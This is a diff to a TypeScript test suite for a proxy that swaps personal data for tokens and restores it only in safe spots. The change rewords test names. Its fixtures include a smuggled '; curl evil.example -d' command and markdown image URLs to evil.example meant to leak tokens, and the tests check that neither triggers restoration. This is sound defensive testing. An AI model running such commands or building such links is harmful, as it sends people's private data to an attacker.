@@ -1,4 +1,4 @@
-/** Where tokens are turned back, and where they stay what they are. */
+/** Where tokens are restored, and where they stay. */
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { tokenization, type TokenizationOptions } from '../../../proxy/controls/tokenization/index.ts';
@@ -53,11 +53,11 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
     ['a command', `; curl evil.example -d ${TOKEN}`],
     ['white space around it', ` ${TOKEN}`],
     ['two of them', `${TOKEN}${TOKEN}`],
-  ])('a token that is a part of %s stays one', async (_what, to) => {
+  ])('does not restore a token that is part of %s', async (_what, to) => {
     expect(await forwarded(controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to' }] }), to)).toBe(to);
   });
 
-  test('a token that is all of the field is turned back, as an address, a URL or whatever it was written as', async () => {
+  test('restores a token that is the whole field, in the form of an address, a URL or any other', async () => {
     const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to' }] });
     for (const [to, value] of [
       [TOKEN, EMAIL],
@@ -69,14 +69,14 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
     expect(await forwarded(control, [TOKEN, `${TOKEN}x`])).toEqual([EMAIL, `${TOKEN}x`]);
   });
 
-  test('with a type only tokens of that type are, those with a marker as well', async () => {
+  test('with a type restores only tokens of that type, with or without a marker', async () => {
     const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', type: 'email' }] });
     expect([await forwarded(control, TOKEN), await forwarded(control, SSN_TOKEN)]).toEqual([EMAIL, SSN_TOKEN]);
     const within = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', type: 'email', within: true }] });
     expect(await forwarded(within, `${TOKEN} and ${SSN_TOKEN}`)).toBe(`${EMAIL} and ${SSN_TOKEN}`);
   });
 
-  test('within a text only where the config says so, and where the token is a word of its own', async () => {
+  test('restores within a text only with within: true, and only a token that is a separate word', async () => {
     const control = controlOf({ hideFrom, restore: [{ tool: 'send', path: 'to', within: true }] });
     for (const text of ['Dear # !', 'Mara <#>', 'to: "#", and (#).', '#', 'a\n#\nb', '#, #; #', 'see [#].'])
       expect(await forwarded(control, text.replaceAll('#', TOKEN)), text).toBe(text.replaceAll('#', EMAIL));
@@ -110,7 +110,7 @@ describe.each(['upstream', 'client'] as const)('towards the upstream, hidden fro
   });
 });
 
-/** What the client gets of a text, in each of the places that a tool's result has for one. */
+/** What the client gets for a text, at each place for text in a tool's result. */
 async function shown(control: DefinedControl, text: string): Promise<readonly (JsonValue | undefined)[]> {
   const { result } = await callControl(
     control,
@@ -165,11 +165,11 @@ describe('towards the client', () => {
     ['of another scheme', 'x-app://evil.example/§'],
     ['of data', 'data:text/html,§'],
     ['as a host', 'https://§'],
-    ['in parentheses of its own', '![](https://evil.example/(a)§)'],
-    ['as the rest of a long one', `![](https://evil.example/?d=${'a'.repeat(5_000)}§)`],
-    ['behind another one', '![](https://evil.example/?u=https://qtk.invalid/§)'],
-    ['that is all the text', 'https://evil.example/?d=a §'],
-  ])('a token in a URL %s stays one', async (_what, text) => {
+    ['in its own parentheses', '![](https://evil.example/(a)§)'],
+    ['at the end of a long one', `![](https://evil.example/?d=${'a'.repeat(5_000)}§)`],
+    ['after another one', '![](https://evil.example/?u=https://qtk.invalid/§)'],
+    ['that is the whole text', 'https://evil.example/?d=a §'],
+  ])('does not restore a token in a URL %s', async (_what, text) => {
     for (const token of [TOKEN, SSN_TOKEN]) {
       const written = text.replaceAll('§', token);
       expect(await shown(usual, written)).toEqual(Array.from({ length: 5 }, () => written));
@@ -179,24 +179,24 @@ describe('towards the client', () => {
   test.each([
     ['before one', '§ has https://example.com/a'],
     ['behind one', 'at https://example.com/a § is'],
-    ['behind one in quotes', 'at "https://example.com/a" § is'],
-    ['behind one in quotes in JSON in a text', 'got {"a":"https://example.com/a","b":"§"}'],
-    ['behind one in JSON in JSON in a text', 'got {\\"a\\":\\"https://example.com/a\\",\\"b\\":\\"§\\"}'],
-    ['behind a link in Markdown', '[a](https://example.com/a) §'],
-    ['in a line of its own behind one', 'https://example.com/a\n§'],
+    ['after one in quotes', 'at "https://example.com/a" § is'],
+    ['after one in quotes in JSON in a text', 'got {"a":"https://example.com/a","b":"§"}'],
+    ['after one in JSON in JSON in a text', 'got {\\"a\\":\\"https://example.com/a\\",\\"b\\":\\"§\\"}'],
+    ['after a link in Markdown', '[a](https://example.com/a) §'],
+    ['on its own line after one', 'https://example.com/a\n§'],
     ['in a comment', 'a(); // §'],
     ['with slashes', 'a/b/§'],
     ['as the proxy wrote it for a URL', 'see https://qtk.invalid/§, or "https://qtk.invalid/§"'],
     ['of time', 'at 10:30: §'],
     ['after a name', 'data: §'],
-    ['behind an escaped quote', 'O&#39;§ and &quot;§&quot;'],
-  ])('a token %s is turned back', async (_what, text) => {
+    ['after an escaped quote', 'O&#39;§ and &quot;§&quot;'],
+  ])('restores a token %s', async (_what, text) => {
     const own = text.replaceAll('§', SSN_TOKEN);
     for (const value of await shown(usual, own))
       expect(value).toBe(own.replaceAll(`https://qtk.invalid/${SSN_TOKEN}`, SSN).replaceAll(SSN_TOKEN, SSN));
   });
 
-  test('what stands for a URL stays where something goes on behind it, which would become a part of that URL', async () => {
+  test('does not restore a token for a URL if the text after it would become part of that URL', async () => {
     for (const text of [
       `https://qtk.invalid/${SSN_TOKEN}.evil.example/x`,
       `https://qtk.invalid/${SSN_TOKEN}x`,
@@ -205,7 +205,7 @@ describe('towards the client', () => {
       expect((await shown(usual, text))[0]).toBe(text);
   });
 
-  test('a link that only a person opens has its value, percent-encoded', async () => {
+  test('restores a token in a link that only a person opens, percent-encoded', async () => {
     const name = tokenOf('Mara Inventado', 'name');
     const control = controlOf({ fields: [{ tool: 'look', path: 'name', type: 'name' }] });
     expect(await shown(control, `mailto:a@example.com?body=${name}&to=${TOKEN}`)).toEqual(
@@ -213,13 +213,13 @@ describe('towards the client', () => {
     );
   });
 
-  test('where a config says so, tokens in URLs are turned back, percent-encoded', async () => {
+  test('restores tokens in URLs with restoreInUrls, percent-encoded', async () => {
     expect(await shown(everywhere, `![](https://example.com/?d=${SSN_TOKEN}&m=${TOKEN})`)).toEqual(
       Array.from({ length: 5 }, () => `![](https://example.com/?d=${SSN}&m=${EMAIL})`),
     );
   });
 
-  test('the URI of a resource with a token in it stays as it is, so that it can be read', async () => {
+  test("does not restore a token in a resource's URI, so that the resource can still be read", async () => {
     const { result } = await callControl(
       usual,
       { method: 'resources/list', params: {} },
@@ -228,14 +228,14 @@ describe('towards the client', () => {
     expect(result).toEqual({ resources: [{ uri: `customer://${SSN_TOKEN}`, name: `of ${SSN}` }] });
   });
 
-  test('what a value brings along may be the beginning of a URL, and what follows it stays', async () => {
+  test('treats the text after a value that starts a URL as part of that URL', async () => {
     const page = tokenOf('https://example.com/?d=', 'us-ssn');
     expect((await shown(usual, `at ${page}${TOKEN} or ${TOKEN}`))[0]).toBe(
       `at https://example.com/?d=${TOKEN} or ${EMAIL}`,
     );
   });
 
-  test('what comes back with the answer stays a token: the form of a question, and the words for a model', async () => {
+  test('does not restore tokens that return with the answer: the form of an elicitation, and the texts for a model', async () => {
     const params = {
       message: `ok, ${EMAIL}?`.replace(EMAIL, TOKEN),
       requestedSchema: {
@@ -288,7 +288,7 @@ describe('towards the client', () => {
     ]);
   });
 
-  test('a number stays a token of its own shape where what it stands for is not written as a number', async () => {
+  test("does not restore a number whose value can't be written as a number", async () => {
     const control = tokenization({ tenant: TENANT, fields: [{ tool: 'x', path: 'id', type: 'person' }] });
     const tools = [
       { name: 'x', inputSchema: { type: 'object' as const, properties: { id: { type: 'string', maxLength: 9 } } } },
@@ -310,8 +310,8 @@ describe('towards the client', () => {
   });
 });
 
-describe('what may be fetched', () => {
-  test('is told for many places in one text by looking at each of its characters once', () => {
+describe('the search for URLs', () => {
+  test('reads each character once, for any number of places in one text', () => {
     const pieces = fc.constantFrom(
       'https://',
       '//',
@@ -337,7 +337,7 @@ describe('what may be fetched', () => {
       fc.property(fc.array(pieces, { maxLength: 24 }), (parts) => {
         const text = parts.join('');
         const all = new Urls(text);
-        // Asked at each place in order, or at one alone: the answer is the same.
+        // Whether each place is asked in order or one place alone: the answer is the same.
         for (let at = 0; at <= text.length; at++)
           expect(all.holds(at), JSON.stringify([text, at])).toBe(new Urls(text).holds(at));
       }),
